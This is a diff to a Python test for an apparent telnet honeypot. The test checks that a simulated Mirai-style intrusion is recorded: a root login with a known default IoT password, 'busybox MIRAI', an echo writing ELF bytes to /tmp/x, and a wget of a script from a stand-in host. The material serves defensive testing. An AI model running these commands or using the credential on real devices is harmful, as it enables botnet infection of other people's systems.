@@ -70,6 +70,7 @@ async def test_telnet_session_on_a_terminal_is_recorded(tmp_path: Path) -> None:
             (b"app02 login: ", b"root\r"),
             (b"Password: ", b"xc3511\r"),
             (b"root@app02:~# ", b"busybox MIRAI; uname -n\r"),
+            (b"root@app02:~# ", b"echo -ne '\\x7fELF' > /tmp/x; echo y >> /tmp/x\r"),
             (b"root@app02:~# ", b"wget http://192.0.2.66/x.sh\r"),
             (b"timed out", b"exit\r"),
         ]
@@ -86,10 +87,14 @@ async def test_telnet_session_on_a_terminal_is_recorded(tmp_path: Path) -> None:
         commands = running.events("command")
         assert [e.fields["command"] for e in commands] == [
             "busybox MIRAI; uname -n",
+            "echo -ne '\\x7fELF' > /tmp/x; echo y >> /tmp/x",
             "wget http://192.0.2.66/x.sh",
             "exit",
         ]
         assert running.events("download_attempt")[0].fields["url"] == "http://192.0.2.66/x.sh"
+        dropped = running.events("file_captured")[0].fields
+        assert (dropped["path"], dropped["size_bytes"]) == ("/tmp/x", "6")
+        assert Path(dropped["stored_as"]).read_bytes() == b"\x7fELFy\n"
         ended = running.events("session_recorded")[0].fields
         assert ended["session_id"] == commands[0].fields["session_id"]
         lines = [json.loads(line) for line in Path(ended["shard_path"]).read_text().splitlines()]
